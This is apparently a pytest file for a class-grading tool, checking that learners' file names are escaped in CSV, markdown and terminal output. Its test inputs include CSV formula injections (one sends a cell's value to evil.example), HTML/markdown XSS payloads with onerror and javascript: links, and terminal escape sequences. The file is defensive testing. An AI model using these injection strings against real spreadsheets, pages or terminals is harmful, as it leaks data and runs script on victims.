"""A class report takes learners' names and notes as text, never as a formula, markdown or HTML.

The learners' files are empty notebooks, so nothing runs: what is tested is the report (under a second).
"""

from __future__ import annotations

import csv
import re

from raycourse import grading

NAMES = [
    '=HYPERLINK("https:evil.example?"&A1,"click")',  # a file name has no slash
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
    "# Full marks\n<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![i](evil.example?p.png) <b onmouseover=alert(1)>bold www.evil.example",
    "a ``` fence\n```\n# out",
]


def test_csv_cells_that_would_be_formulas_are_neutralised_and_markdown_is_escaped(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    for name in NAMES:
        (folder / f"{name}.ipynb").write_bytes(b"")  # not graded: its name and note go into the report
    report = grading.grade_class(folder, echo=lambda *a, **k: None)
    assert sorted(l.name for l in report.learners) == sorted(NAMES)
    csv_path, md_path = report.write(tmp_path / "out")

    with csv_path.open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert all(not c.startswith(grading.FORMULA_START) for c in cells), [c for c in cells if c[:1] in "=+-@\t\r"]
    for name in NAMES:  # each learner's name is still there, after its quote
        assert ("'" + name if name.startswith(grading.FORMULA_START) else name) in cells

    markdown = md_path.read_text(encoding="utf-8")
    lines = markdown.splitlines()
    # our headings only: one title, one section, one per learner, every one on a line of its own
    assert [l.split(" ", 1)[0] for l in lines if l.startswith("#")] == ["#", "##"] + ["###"] * len(NAMES), [
        l for l in lines if l.startswith("#")
    ]
    raw = re.findall(r"(?<!\\)(<img|<b |\]\()", markdown)  # HTML, or a link, not escaped
    assert not raw, raw
    assert "\\# Full marks \\<img src=x onerror=alert(1)\\>" in markdown
    assert "www\\.evil.example" in markdown and "\\[x\\](javascript:alert(1))" in markdown
    assert grading.md_text("see http://evil.example") == "see http:\\//evil.example"  # no link made of it
    # the notes (in the table and the list) escape the same way; a name's fence never closes the report's
    assert "- a \\`\\`\\` fence \\`\\`\\` \\# out.ipynb: the file is empty (0 bytes)" in markdown


def test_the_terminal_never_gets_a_learners_control_characters(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "x\x1b]0;pwned\x07.ipynb").write_bytes(b"")
    said = []
    grading.grade_class(folder, echo=lambda *a, **k: said.append(" ".join(map(str, a))))
    assert said == ["x\\x1b]0;pwned\\x07: x\\x1b]0;pwned\\x07.ipynb: not graded: the file is empty (0 bytes)"], said
